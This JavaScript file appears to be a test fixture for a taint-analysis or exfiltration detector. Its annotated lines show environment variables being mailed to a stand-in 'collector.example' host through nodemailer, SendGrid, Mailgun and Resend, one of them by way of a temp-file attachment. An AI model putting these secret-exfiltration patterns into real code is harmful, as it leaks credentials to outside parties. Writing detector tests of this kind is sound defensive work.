// Mail.
const mailgun = require("mailgun-js");
const nodemailer = require("nodemailer");
const resend = require("resend");
const sendgrid = require("@sendgrid/mail");

function smtp() {
  const transport = nodemailer.createTransport({ host: "smtp.collector.example" }); //~ capability(MAIL), endpoint("smtp.collector.example")
  transport.sendMail({ to: "a@collector.example", text: process.env.T }); //~ source(ENVIRONMENT) f1, sink(egress.mail) f1, finding(traced) f1
  transport.sendMail({ to: "a@collector.example", text: "ping" }); //~ ok
  require("fs").writeFileSync("/tmp/all.txt", process.env.T); //~ source(ENVIRONMENT) fattached
  transport.sendMail({ attachments: [{ path: "/tmp/all.txt" }] }); //~ sink(egress.mail) fattached, finding(traced) fattached
  transport.sendMail({ attachments: [{ content: process.env.T }] }); //~ source(ENVIRONMENT) f2, sink(egress.mail) f2, finding(traced) f2
  nodemailer.createTransport({ host: "smtp.collector.example" }); //~ ok
}

async function services() {
  sendgrid.setApiKey("key"); //~ capability(MAIL)
  sendgrid.setApiKey(""); //~ ok
  await sendgrid.send({ to: "a@collector.example", text: process.env.T }); //~ source(ENVIRONMENT) f3, sink(egress.mail) f3, finding(traced) f3, capability(MAIL)
  await sendgrid.send({ to: "a@collector.example", text: "ping" }); //~ ok
  const client = mailgun({ apiKey: "k" }); //~ capability(MAIL)
  client.messages().send({ text: process.env.T }); //~ source(ENVIRONMENT) f4, sink(egress.mail) f4, finding(traced) f4
  client.messages().send({ text: "ping" }); //~ ok
  await new resend.Resend("k").emails.send({ text: process.env.T }); //~ source(ENVIRONMENT) f5, sink(egress.mail) f5, finding(traced) f5
  await new resend.Resend("k").emails.send({ text: "ping" }); //~ ok
}
